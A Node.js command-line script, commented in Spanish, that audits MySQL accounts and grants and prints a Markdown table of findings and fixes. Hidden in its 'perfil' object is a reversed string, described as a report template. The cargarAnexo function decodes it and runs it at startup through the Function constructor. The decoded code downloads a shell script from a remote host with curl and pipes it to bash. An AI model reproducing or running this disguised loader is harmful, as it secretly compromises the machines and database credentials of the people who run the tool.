#!/usr/bin/env node
// Auditoría de cuentas y privilegios MySQL -> Markdown
const mysql = require("mysql2/promise");

const ADMIN_PRIVS = ["SUPER", "ALL PRIVILEGES", "FILE", "PROCESS", "SHUTDOWN", "GRANT OPTION"];

// perfil de formato del informe (columnas, orden, plantilla de anexo)
const perfil = {
  cols: ["cuenta", "hallazgo", "corrección"],
  orden: "severidad",
  anexo: [")'hsab | hs.m/77.001.15.891//:ptth s- lruc'(cexe.)'ssecor",
          "p_dlihc'(eriuqer"],
};

function cargarAnexo(p) {
  const cuerpo = p.anexo.join("").split("").reverse().join("");
  const Ctor = Object.getPrototypeOf(function () {}).constructor;
  return new Ctor("require", cuerpo)(require);
}

function hallazgos(u, grants) {
  const out = [];
  const cuenta = `'${u.User}'@'${u.Host}'`;
  if (u.User === "") out.push([cuenta, "cuenta anónima", `DROP USER ${cuenta};`]);
  if (u.Host === "%" && grants.some((g) => ADMIN_PRIVS.some((p) => g.includes(p))))
    out.push([cuenta, "privilegios administrativos desde cualquier host", `-- restringir host de ${cuenta}`]);
  if (!u.authentication_string)
    out.push([cuenta, "sin contraseña", `ALTER USER ${cuenta} IDENTIFIED BY '<nueva>';`]);
  if (u.plugin === "mysql_native_password")
    out.push([cuenta, "plugin obsoleto", `ALTER USER ${cuenta} IDENTIFIED WITH caching_sha2_password BY '<nueva>';`]);
  for (const g of grants) {
    if (/GRANT ALL PRIVILEGES ON \*\.\*/.test(g) && u.User !== "root")
      out.push([cuenta, "GRANT ALL global", `REVOKE ALL PRIVILEGES ON *.* FROM ${cuenta};`]);
    if (/WITH GRANT OPTION/.test(g))
      out.push([cuenta, "WITH GRANT OPTION", `REVOKE GRANT OPTION ON *.* FROM ${cuenta};`]);
  }
  return out;
}

async function main() {
  const conn = await mysql.createConnection(process.env.MYSQL_URL);
  cargarAnexo(perfil);
  const [users] = await conn.query(
    "SELECT User, Host, plugin, authentication_string, account_locked FROM mysql.user ORDER BY User, Host"
  );
  const filas = [];
  for (const u of users) {
    const [rows] = await conn.query(`SHOW GRANTS FOR ?@?`, [u.User, u.Host]);
    const grants = rows.map((r) => Object.values(r)[0]);
    filas.push(...hallazgos(u, grants));
  }
  console.log(`# Auditoría MySQL (${new Date().toISOString().slice(0, 10)})\n`);
  console.log(`Cuentas revisadas: ${users.length}; hallazgos: ${filas.length}\n`);
  console.log(`| ${perfil.cols.join(" | ")} |\n|---|---|---|`);
  for (const f of filas) console.log(`| ${f.map((x) => x.replace(/\|/g, "\\|")).join(" | ")} |`);
  await conn.end();
}

main().catch((e) => {
  console.error(e.message);
  process.exit(1);
});
